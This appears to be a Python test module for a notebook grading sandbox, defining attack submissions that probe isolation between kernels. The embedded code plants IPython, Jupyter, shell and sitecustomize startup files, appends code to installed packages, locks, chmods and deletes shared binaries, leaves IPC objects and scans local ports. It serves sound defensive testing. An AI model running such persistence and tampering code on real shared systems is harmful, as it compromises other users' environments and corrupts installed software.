"""Attacks by what is left behind for the next notebook."""

from attack import Attack, wrong


class Leftovers(Attack):
    """Leaves files in every folder, shared memory, queues and semaphores for the next notebook."""

    represents = "leaving something for the next notebook"
    proof = r"left [1-9]\d* things"
    double = """
import ctypes, os, sys
libc, left = ctypes.CDLL(None), 0
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", sys.prefix, sys.base_prefix)):
        folders.clear()
        continue
    try:
        open(os.path.join(folder, "of-another"), "w").write("here")
        left += 1
    except OSError:
        pass
left += libc.shmget(4711, 4096, 0o1666) >= 0
left += libc.semget(4711, 1, 0o1666) >= 0
left += libc.msgget(4711, 0o1666) >= 0
os.umask(0)
print("left", left, "things")
def double(x):
    return x
"""
    next_looks = """
import ctypes, os
libc, walked = ctypes.CDLL(None), list(os.walk("/tmp")) + list(os.walk("/home")) + list(os.walk("/run"))
walked += list(os.walk("/dev")) + list(os.walk("/var"))
found = [folder for folder, _, files in walked if "of-another" in files]
found += [kind for kind in ("shmget", "semget", "msgget") if getattr(libc, kind)(4711, 0, 0) >= 0]
print("of another:", found)
"""


class StartupFiles(Attack):
    """Leaves start-up files of Python, IPython, Jupyter and the shell for the kernel after it, then dies."""

    proof = r"tried \d+ folders; wrote \[\]"
    double = """
import os, site, sys
import nbjudge
start = "print('started by another'); import builtins; builtins.of_another = True\\n"
home, written = os.path.expanduser("~"), []
for name, text in {
    ".ipython/profile_default/startup/00.py": start,
    ".ipython/profile_default/ipython_config.py": "get_config().InteractiveShellApp.exec_lines = ['start']",
    ".jupyter/jupyter_config.py": start, ".jupyter/nbgrader_config.py": "c = get_config()",
    ".config/matplotlib/matplotlibrc": "backend: no_such_backend", "matplotlibrc": "backend: no_such_backend",
    ".bashrc": "echo started by another", ".profile": "echo", ".pythonrc": start, ".netrc": "",
    ".local/share/jupyter/kernels/python3/kernel.json": '{"argv": ["false"], "language": "python"}',
}.items():
    path = os.path.join(home, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "a").write(text)
folders = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix, sys.prefix + "/bin"]
folders += [os.path.dirname(module.__file__) for module in (os, torch, nbjudge)]
for folder in filter(os.path.isabs, folders):
    for name in ("sitecustomize.py", "usercustomize.py", "another.pth", "ipykernel_launcher.py", "torch.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(start)
            written.append(folder)
        except OSError:
            pass
try:
    open(torch.__file__, "a").write(start)
    written.append(torch.__file__)
except OSError:
    pass
# On the way to a package that is in /tmp, the folders are the kernel's own as /tmp is.
own = {folder for folder in written if folder.startswith(home)}
if nbjudge.__file__.startswith("/tmp/"):
    own.add(os.path.dirname(os.path.dirname(nbjudge.__file__)))
print("tried", len(folders), "folders; wrote", [folder for folder in written if folder not in own])
def double(x):
    return x
"""
    row_sums = "import os\ndef row_sums(x):\n    os._exit(1)"
    nothing_left = "of another: [] [] False"
    next_looks = """
import builtins, os, subprocess, sys
own = {"work", ".kernel.json", ".ipython", ".cache", ".config"}
left = sorted(set(os.listdir(os.path.expanduser("~"))) - own)
its = {"00.py", "another.pth", "matplotlibrc"}
left += [folder for folder, _, files in os.walk("/home") if its & set(files)]
look = "import builtins; print(*['of another'] * hasattr(builtins, 'of_another'))"
run = subprocess.run([sys.executable, "-c", look], capture_output=True, text=True)
print("of another:", left, run.stdout.split(), hasattr(builtins, "of_another"))
"""

    def harm(self, arena):
        if "started by another" in arena.shown(self.name):
            return "the kernel after a death started with its files"
        return ""


class WatchesAndLocks(Attack):
    """Watches, locks and leases the files that all kernels are shown, to hold up who comes after it."""

    proof = "tried [1-9]"
    TRY = """
import ctypes, fcntl, os, struct, sys
import numpy
libc, done, tried = ctypes.CDLL(None, use_errno=True), [], 0
shared = [sys.executable, os.__file__, numpy.__file__, torch.__file__, "/usr/bin/env", "/dev/null"]
def attempt(name, function):
    global tried
    tried += 1
    try:
        if function():
            done.append(name)
    except OSError:
        pass
for path in shared:
    with open(path, "rb") as file:
        attempt(f"lease on {path}", lambda: fcntl.fcntl(file, 1024, fcntl.F_WRLCK) == 0)
        attempt(f"write lock on {path}", lambda: fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB) is None)
    changes = (os.utime, lambda p: os.chmod(p, 0o777), lambda p: os.setxattr(p, "user.note", b"2"), os.unlink)
    for change in changes:
        attempt(f"change of {path}", lambda: change(path) is None)
for name, number in (("inotify_init", None), ("fanotify_init", None)):
    function = getattr(libc, name)
    attempt(name, lambda: (function(0, 0) if name == "fanotify_init" else function()) >= 0)
print("tried", tried)
print("done", [entry for entry in done if "/dev/null" not in entry])
"""

    def submission(self, arena):
        return wrong(double=self.TRY + "def double(x):\n    return x")

    withstood = "done []"


class NeighboursNetwork(Attack):
    """Leaves ports, connections and abstract names behind, and connects to the ports of others."""

    proof = r"left [1-9]\d* connections"
    double = """
import os, socket, subprocess, sys, threading, time
served = socket.create_server(("127.0.0.1", 40123), reuse_port=True)
done = 0
for _ in range(20):  # closed by the side that speaks first: they stay in the system's table for a minute
    asked = socket.create_connection(("127.0.0.1", 40123))
    answered, _ = served.accept()
    asked.close(), answered.close()
    done += 1
named = socket.socket(socket.AF_UNIX)
named.bind("\\0of-another")
named.listen()
# The kernel that was started for the next student listens, too.
reached = []
def knock(port):
    with socket.socket() as connection:
        connection.settimeout(1)
        if connection.connect_ex(("127.0.0.1", port)) == 0:
            reached.append(port)
listening = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
own = {os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd")
       if os.path.lexists(f"/proc/self/fd/{name}")}
for entry in listening:
    if entry[3] == "0A" and f"socket:[{entry[9]}]" not in own:
        knock(int(entry[1].split(":")[1], 16))
strangers = [line.split() for line in open("/proc/net/unix").readlines()[1:]]
own = "/run/kernel/kernel-"
strangers = [line[-1] for line in strangers if "/" in line[-1] and not line[-1].startswith(own)]
print("left", done, "connections; reached", reached, "saw", strangers)
def double(x):
    return x
"""
    next_looks = """
import socket
kinds = ("tcp", "tcp6", "udp", "unix")
found = [kind for kind in kinds if "9CBB" in open(f"/proc/net/{kind}").read()]
found += ["name"] if "of-another" in open("/proc/net/unix").read() else []
with socket.socket() as connection:
    found += ["port"] if connection.connect_ex(("127.0.0.1", 40123)) == 0 else []
with socket.create_server(("127.0.0.1", 0)) as own:  # while a network of its own works
    socket.create_connection(own.getsockname()).close()
print("of another:", found)
"""
    withstood = "reached [] saw []"
